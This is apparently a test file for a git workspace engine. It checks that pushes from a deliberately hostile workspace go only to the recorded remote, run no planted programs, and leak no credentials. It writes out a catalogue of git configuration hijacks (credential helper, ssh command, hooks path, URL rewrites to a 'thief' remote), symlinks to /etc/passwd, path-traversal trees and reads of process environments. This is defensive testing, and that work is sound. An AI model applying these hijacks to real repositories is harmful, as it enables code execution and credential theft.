import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { inspect } from 'node:util'
import { hasCode } from '../../src/core/errors.ts'
import type { Workspace } from '../../src/engine/contract.ts'
import { makeGround } from '../support/engine-repository.ts'
import { startGitServer } from '../support/git-server.ts'
import { shell } from '../support/in-workspace.ts'
import { leftovers } from '../support/leftovers.ts'
import { addHook, cleanState } from '../support/push-target.ts'
import { makeRepository, openRepository } from '../support/repository.ts'
import { watchSecret } from '../support/secret-watch.ts'

const secret = watchSecret()
const ground = makeGround(async (source) => {
  await source.commit({ files: { 'a.txt': 'a\n', 'src/main.c': 'main\n' } })
  await source.commit({ files: { 'b.txt': 'b\n' } })
  await makeRepository(`${ground.home.dir}/thief.git`, { bare: true })
})
after(() => assert.deepEqual(leftovers(ground.home), []))

/** A program that leaves a mark in the directory `traps` whenever git starts it, wherever that is. */
const trap = `#!/bin/sh
mkdir -p /workspace/traps; env >>/workspace/traps/$(basename "$0"); cat >>/workspace/traps/input; exit 1
`

/** Every setting with which a repository has git run programs or go elsewhere. */
const settings = (thief: string, origin: string): readonly (readonly [string, string])[] => [
  ['remote.origin.url', thief],
  ['remote.origin.pushurl', thief],
  ['remote.origin.receivepack', '/workspace/trap'],
  ['remote.origin.mirror', 'true'],
  ['remote.origin.push', '+refs/*:refs/*'],
  [`url.${thief}.insteadOf`, origin],
  [`url.${thief}.pushInsteadOf`, origin],
  ['core.hooksPath', '/workspace/hooks'],
  ['core.fsmonitor', '/workspace/trap'],
  ['core.sshCommand', '/workspace/trap'],
  ['core.askPass', '/workspace/trap'],
  ['core.gitProxy', '/workspace/trap'],
  ['core.alternateRefsCommand', '/workspace/trap'],
  ['credential.helper', '!/workspace/trap'],
  ['http.proxy', 'http://127.0.0.1:1'],
  ['http.sslVerify', 'false'],
  ['http.extraHeader', 'X-Stolen: yes'],
  ['push.default', 'matching'],
  ['push.gpgSign', 'true'],
  ['gpg.program', '/workspace/trap'],
  ['uploadpack.packObjectsHook', '/workspace/trap'],
  ['pack.packSizeLimit', '1'],
  ['include.path', '/workspace/more-config'],
]

/** Turns everything that git reads of a workspace against whoever reads it. */
async function takeOver(workspace: Workspace): Promise<void> {
  const thief = ground.server.url('thief')
  const set = settings(thief, ground.repo).map(([name, value]) => `git config --local --add '${name}' '${value}'`)
  await shell(
    workspace,
    `printf '${trap.replaceAll('\n', '\\n').replaceAll("'", `'\\''`)}' >trap; chmod +x trap; mkdir hooks
     for hook in pre-push reference-transaction post-index-change pre-auto-gc post-rewrite; do cp trap hooks/$hook; done
     cp hooks/* .git/hooks/ 2>/dev/null || { mkdir .git/hooks; cp hooks/* .git/hooks/; }
     ${set.join('\n')}
     git config --file more-config core.hooksPath /workspace/hooks
     mkdir -p .git/objects/info; printf '/etc\\n/proc/1/root\\n/workspace/../../..\\n' >.git/objects/info/alternates
     head -c 100 /dev/urandom >.git/index; printf 'nonsense\\n' >.git/info/grafts; printf '* filter=evil\\n' >.git/info/attributes
     ln -s /etc/passwd .git/MERGE_MSG; ln -sf /etc/hostname .git/description`,
  )
}

async function committed(workspace: Workspace, content = 'mine\n'): Promise<string> {
  await workspace.run('write-file', { path: 'mine.txt', content })
  await workspace.run('add', {})
  return ((await workspace.run('commit', { message: 'Mine' })).value as { commit: string }).commit
}

async function marks(workspace: Workspace): Promise<string> {
  return shell(workspace, 'ls /workspace/traps 2>/dev/null || true')
}

test('unprotected, such a workspace makes git push elsewhere and run its programs', async () => {
  const workspace = await ground.open()
  await committed(workspace)
  await takeOver(workspace)
  const config = await shell(workspace, 'cat .git/config')
  await workspace.close()
  const dir = `${ground.home.dir}/unprotected`
  await ground.source.git(['clone', '--quiet', `file://${ground.source.dir}`, dir])
  await writeFile(
    join(dir, '.git/config'),
    config.replaceAll('/workspace', dir).replaceAll('receivepack', 'x-receivepack'),
  )
  await writeFile(join(dir, 'trap'), `#!/bin/sh\ntouch ${dir}/trapped\n`, { mode: 0o755 })
  const thief = openRepository(`${ground.home.dir}/thief.git`)
  const calm = ['push.gpgSign=false', 'core.fsmonitor=false', 'http.proxy='].flatMap((setting) => ['-c', setting])
  await openRepository(dir).git([...calm, 'push', 'origin'], { okExitCodes: [0, 1] })
  assert.notEqual(await thief.git(['for-each-ref', 'refs/heads']), '')
  for (const ref of (await thief.git(['for-each-ref', '--format=%(refname)'])).split('\n'))
    await thief.git(['update-ref', '-d', ref])
})

test('from a workspace that was turned against us exactly the asked commit goes to the recorded place, and nothing of it runs', async () => {
  const workspace = await ground.open()
  const commit = await committed(workspace)
  await takeOver(workspace)
  const before = await marks(workspace)
  ground.server.forgetRequests()
  const { value } = await workspace.run('push', { branch: 'asked', commit })
  assert.deepEqual(value, { branch: 'asked', commit, previous: null, isTracked: true })
  assert.equal(await ground.source.git(['rev-parse', 'refs/heads/asked']), commit)
  assert.equal(await openRepository(`${ground.home.dir}/thief.git`).git(['for-each-ref']), '')
  for (const { path, headers } of ground.server.requests) {
    assert.match(path, /^\/ground/)
    assert.equal(headers['x-stolen'], undefined)
  }
  assert.deepEqual(
    (await cleanState(ground.source)).filter((ref) => !/main|asked/.test(ref)),
    [],
  )
  assert.equal(await marks(workspace), before)
  await workspace.close()
})

for (const [what, script] of [
  [
    'a blob that is not what its id says',
    'f=$(git rev-parse HEAD:mine.txt); p=.git/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-); chmod +w $p; printf x | git hash-object -w --stdin >/tmp/o; o=$(cat /tmp/o); cp .git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-) $p',
  ],
  [
    'a blob that is missing',
    'f=$(git rev-parse HEAD:mine.txt); rm -f .git/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-)',
  ],
  [
    'a tree that is missing',
    'f=$(git rev-parse HEAD^{tree}); rm -f .git/objects/$(echo $f | cut -c1-2)/$(echo $f | cut -c3-)',
  ],
  [
    'a tree with a name that leads outside',
    `b=$(git rev-parse HEAD:mine.txt); t=$(printf "100644 blob $b\\t..\\n" | git mktree); git reset -q --soft $(git commit-tree -p HEAD -m x $t)`,
  ],
  [
    'a .git in a tree',
    `b=$(git rev-parse HEAD:mine.txt); s=$(printf "100644 blob $b\\tconfig\\n" | git mktree); t=$(printf "040000 tree $s\\t.git\\n" | git mktree); git reset -q --soft $(git commit-tree -p HEAD -m x $t)`,
  ],
  [
    'a commit that is none',
    'printf "tree 0\\nnonsense\\n" | git hash-object -w -t commit --literally --stdin >/tmp/id; cp /tmp/id .git/refs/heads/main',
  ],
] as const) {
  test(`${what} is not pushed`, async () => {
    const workspace = await ground.open()
    // Contents that the upstream has could be brought from there again.
    await committed(workspace, `${what}\n`)
    await shell(workspace, script)
    await assert.rejects(workspace.run('push', { branch: 'broken' }), (error) =>
      hasCode(error, 'push_rejected', 'git_failed', 'commit_not_found'),
    )
    assert.equal(await ground.source.git(['for-each-ref', 'refs/heads/broken']), '')
    await cleanState(ground.source)
    await workspace.close()
  })
}

test('while a push waits for the server, its credential is in no other process, file or sandbox', async (t) => {
  const { username, password, authorization: gitAuthorization } = secret
  const guarded = await startGitServer({ root: ground.home.dir, auth: { username, password } })
  t.after(() => guarded.close())
  const engine = await ground.home.open({ allowHosts: ['127.0.0.1'] })
  const workspace = await engine.open({ repo: guarded.url('ground') }, { gitAuthorization })
  const commit = await committed(workspace)
  await addHook(ground.source, 'pre-receive', `read go <${ground.home.dir}/go; echo went`)
  const go = `${ground.home.dir}/go`
  await writeFile(go, '')
  guarded.delayMs = 100
  const work = workspace.run('push', { branch: 'guarded' }, { gitAuthorization }).catch((error: unknown) => error)
  assert((await secret.whileAtWork(work, 'pack-objects')) > 0)
  secret.hidden(inspect(await work, { depth: 9 }), 'the answer')
  await writeFile(go, 'go\n')
  const { value, receipt } = await workspace.run('push', { branch: 'guarded' }, { gitAuthorization })
  assert.equal((value as { commit: string }).commit, commit)
  secret.hidden(inspect(receipt, { depth: 9 }), 'the receipt')
  await assert.rejects(workspace.run('push', { branch: 'other' }, { gitAuthorization: 'Basic eDp5' }), {
    code: 'auth_required',
  })
  for (const [name, input] of [
    ['fetch', {}],
    ['log', { limit: 100 }],
    ['pull', {}],
  ] as const)
    secret.hidden(inspect(await workspace.run(name, input, { gitAuthorization }), { depth: 9 }), name)
  secret.hidden(
    await shell(
      workspace,
      'env; find .git /tmp /home -type f -not -path "*/objects/*" -exec cat {} +; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "',
    ),
    'the sandbox',
  )
  await secret.notInFiles(ground.home.settings.stateDir)
  secret.hidden(await readFile(`${ground.source.dir}/config`, 'utf8'), 'the repository')
  await workspace.close()
})
